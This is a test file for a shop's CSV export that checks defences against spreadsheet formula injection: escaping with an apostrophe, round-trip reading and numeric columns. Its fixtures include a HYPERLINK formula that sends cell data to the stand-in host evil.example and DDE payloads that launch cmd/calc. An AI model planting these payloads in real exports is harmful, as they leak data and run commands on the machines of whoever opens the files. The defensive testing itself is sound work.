import type { FastifyInstance } from 'fastify';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsv } from '../../command-api/inventory/csv-rows';
import { csvLine, csvText, neutraliseFormula, numeral, restoreFormula } from '../../domain/shared/csv';
import { openInventoryShop, type InventoryShop } from './inventory-shop';
import { bearer } from './read-fixtures';

// Issue 38, CSV injection (OWASP): the shop's one CSV writer, and every route that writes a CSV with
// it. Each cell a spreadsheet would run (= + - @ tab CR first) comes out behind an apostrophe, and
// reads back as the same text once the import (or restoreFormula) takes the apostrophe off.

/** A CSV as papaparse (the import's reader) reads it. */
const parse = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true });

describe('the CSV writer (domain/shared/csv.ts)', () => {
  it('any texts: read back by papaparse, minus the prefix, they are the texts written', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', '\n', 'a', ' ') }),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        const read = Papa.parse<string[]>(csvLine(cells), { delimiter: ',' });
        expect(read.errors).toEqual([]);
        // One record, then the empty line after its CRLF.
        expect(read.data).toHaveLength(2);
        const back = read.data[0]!;
        expect(back.map(restoreFormula)).toEqual(cells);
        // Neutralised means no cell a spreadsheet could run.
        for (const c of back) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500 },
    );
  });

  it('prefixes exactly the cells that start a formula, and one more apostrophe before ours', () => {
    expect(['=1+2', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', "'=1", "''-1"].map(neutraliseFormula)).toEqual([
      "'=1+2",
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'\t=1",
      "'\r=1",
      "''=1",
      "'''-1",
    ]);
    expect(['Rosa', "'hola", '1-2', '', "'"].map(neutraliseFormula)).toEqual(['Rosa', "'hola", '1-2', '', "'"]);
  });

  it('writes numbers bare only when they are numbers; text that looks like one is still text', () => {
    expect(csvLine([-3, 12.5, 10n, numeral('-12.50'), '-3', null, ''])).toBe("-3,12.5,10,-12.50,'-3,,\r\n");
    // Not a plain numeral, whatever its type says: written as text, neutralised.
    expect(csvLine([-Infinity, NaN, numeral('-1+cmd|calc'), numeral('=1')])).toBe(
      "'-Infinity,NaN,'-1+cmd|calc,'=1\r\n",
    );
  });

  it('quotes what would split a cell, and passes a file on unchanged when told not to neutralise', () => {
    expect(csvLine(['a,b', 'say "hi"', 'a;=1', ' x', 'two\nlines'])).toBe(
      '"a,b","say ""hi""","a;=1"," x","two\nlines"\r\n',
    );
    expect(csvLine([''])).toBe('""\r\n');
    expect(csvText(['sku', 'name'], [['=A1', "'=B"]], { neutralise: false })).toBe("sku,name\r\n=A1,'=B\r\n");
  });
});

// Every text cell the rows below hold, by the character it starts with. The product decider trims
// its texts (a leading tab or CR never reaches a name), but not image URLs; user names come from
// their events as given.
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const PRODUCT = {
  sku: 'CSV-001',
  name: HYPERLINK,
  description: "-2+3+cmd|' /C calc'!A0",
  category: '@SUM(1+1)',
  images: ['\t=1+2'],
  price: 10,
  currentStock: 3,
};
const OTHER = { sku: 'CSV-002', name: '+1+2', description: "'=ya con apóstrofo", images: ['\r=1+2'], price: 12.5 };
const USERS = ['=cmd|calc', '+1+2', '-3', '@SUM(1)', '\t=1', '\r=1'];

let shop: InventoryShop;
let app: FastifyInstance;
const get = async (url: string) => {
  const res = await app.inject({ url, headers: bearer(['admin']) });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  return res.body;
};

beforeAll(async () => {
  shop = await openInventoryShop('csv_exports');
  const at = { at: '2026-03-01T09:00:00.000Z' };
  const sold = await shop.addProduct(PRODUCT, at);
  await shop.addProduct(OTHER, at);
  // A sale: the ledger's net_change is -2, a negative number in a numeric column.
  await shop.move(sold, { type: 'sale', quantity: 2, reference: { type: 'pos', id: 'T-1' } }, at);
  for (const [i, name] of USERS.entries()) await shop.registerUser(`u-csv-${i}`, name);
  await shop.project(50, ['users', 'inventory', 'stock-ledger']);
  app = await shop.app();
});
afterAll(async () => shop?.close());

describe('GET /api/inventory/export.csv', () => {
  it('neutralises = + - @ tab and CR cells; the import reads back the same texts', async () => {
    const body = await get('/api/inventory/export.csv?sort=sku&order=asc');
    const [header, first, second] = parse(body).data;
    const cell = (row: string[] | undefined, column: string) => row![header!.indexOf(column)];
    expect([cell(first, 'name'), cell(first, 'description'), cell(first, 'categories'), cell(first, 'images')]).toEqual(
      [`'${HYPERLINK}`, `'${PRODUCT.description}`, `'${PRODUCT.category}`, "'\t=1+2"],
    );
    expect([cell(second, 'name'), cell(second, 'description'), cell(second, 'images')]).toEqual([
      "'+1+2",
      `'${OTHER.description}`,
      "'\r=1+2",
    ]);
    // Numbers stay numbers.
    expect([cell(first, 'price'), cell(first, 'currentStock'), cell(second, 'price')]).toEqual(['10.00', '1', '12.50']);

    const [a, b] = readCsv(body, 2).map((r) => r.cells);
    expect(a).toMatchObject({ name: HYPERLINK, description: PRODUCT.description, images: '\t=1+2' });
    expect(a!.categories).toBe(PRODUCT.category);
    expect(b).toMatchObject({ name: OTHER.name, description: OTHER.description, images: '\r=1+2' });
  });
});

describe('GET /api/ops/export/read-models/:table.csv', () => {
  it('neutralises = + - @ tab and CR cells of any table; without the prefix they are the rows', async () => {
    const read = Papa.parse<Record<string, string>>(await get('/api/ops/export/read-models/users.csv'), {
      header: true,
      skipEmptyLines: true,
    });
    expect(read.errors).toEqual([]);
    const names = read.data.filter((r) => r.id!.startsWith('u-csv-')).sort((x, y) => x.id!.localeCompare(y.id!));
    expect(names.map((r) => r.name)).toEqual(USERS.map((n) => `'${n}`));
    expect(names.map((r) => restoreFormula(r.name!))).toEqual(USERS);
    const stored = await shop.db
      .selectFrom('users' as never)
      .select(['id' as never, 'name' as never])
      .where('id' as never, 'like', 'u-csv-%' as never)
      .orderBy('id' as never)
      .execute();
    expect(stored.map((r) => (r as { name: string }).name)).toEqual(USERS);
  });

  it('writes a numeric column bare, a negative one included', async () => {
    const [header, ...rows] = parse(await get('/api/ops/export/read-models/stock_movements.csv')).data;
    const column = (name: string) => rows.map((r) => r[header!.indexOf(name)]);
    expect(column('type')).toEqual(['opening', 'sale']);
    expect(column('net_change')).toEqual(['3', '-2']);
  });
});
